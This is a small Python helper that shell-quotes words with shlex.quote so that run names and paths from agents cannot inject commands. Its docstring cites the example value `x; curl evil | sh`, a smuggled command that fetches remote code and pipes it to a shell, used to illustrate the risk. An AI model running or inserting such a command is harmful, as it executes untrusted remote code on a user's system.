"""Write the words of commands that a person may copy into a shell.

Names of runs come from agents, and paths from anywhere: `x; curl evil | sh` is one word of a command, and no command.
"""

import shlex


def shell_word(word: object) -> str:
    """Write a word of a command: as it is where a shell takes it so, else in quotes."""
    return shlex.quote(str(word))
